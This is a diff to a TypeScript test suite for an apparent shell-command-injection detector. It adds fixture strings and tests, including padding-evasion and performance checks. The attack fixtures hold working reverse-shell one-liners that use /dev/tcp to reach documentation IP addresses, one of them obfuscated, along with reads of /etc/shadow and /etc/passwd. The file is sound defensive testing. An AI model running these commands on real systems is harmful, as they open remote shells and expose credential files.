@@ -74,6 +74,7 @@ const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
   ['/bin/cat /etc/shadow', 1],
   ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 1],
   ['exec 5<>/dev/tcp/198.51.100.7/80', 1],
+  ['d=/dev&&(sh)0>$d/tcp/198.51.100.7/777', 1],
   ['python -c \'import os;os.system("id")\'', 1],
   ['python3 -c "print(1)"', 1],
   ["perl -e 'system(\"id\")'", 1],
@@ -128,6 +129,9 @@ const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
   ['time who', 2],
   ['$(document_root)', 2],
   ['$((1+1))', 2],
+  ['!-1!-2', 2],
+  ['~+', 2],
+  ['${x#y}', 2],
 ];
 
 const benign: [string, Partial<DetectorContext>?][] = [
@@ -287,6 +291,13 @@ test('glob matching', () => {
   assert.ok(!globPath('/*/*', '/etc/passwd'));
 });
 
+test('padding with thousands of harmless commands does not hide the payload', () => {
+  for (const pad of [';a', 'x|', '\nfoo bar', '&&b']) {
+    const v = pad.repeat(30_000) + ';cat /etc/passwd';
+    assert.ok(run(v).some((f) => f.paranoia === 1), `payload after ${JSON.stringify(pad)} padding`);
+  }
+});
+
 test('never throws, and handles hostile input', () => {
   const rnd = (n: number): string => {
     let s = '';
@@ -311,7 +322,7 @@ test('linear time on large and pathological values', () => {
     'The quick brown fox; jumps over the lazy dog & cat | time is money (see https://example.com). '.repeat(2200),
     ';'.repeat(200_000), '$('.repeat(100_000), '`'.repeat(200_000), "'\"".repeat(100_000), '{a,'.repeat(66_000),
     '${'.repeat(100_000), '$IFS'.repeat(50_000), '('.repeat(200_000), 'cat /etc/passwd; '.repeat(12_000),
-    'a+'.repeat(100_000), '\\'.repeat(200_000), '/???/c?t '.repeat(22_000), 'for %i in (a) do if exist x echo & '.repeat(6_000),
+    'a+'.repeat(100_000), '\\'.repeat(200_000), ';a'.repeat(100_000), 'a|b&c\n'.repeat(33_000), '/???/c?t '.repeat(22_000), 'for %i in (a) do if exist x echo & '.repeat(6_000),
   ];
   for (const v of cases) {
     let ms = Infinity;
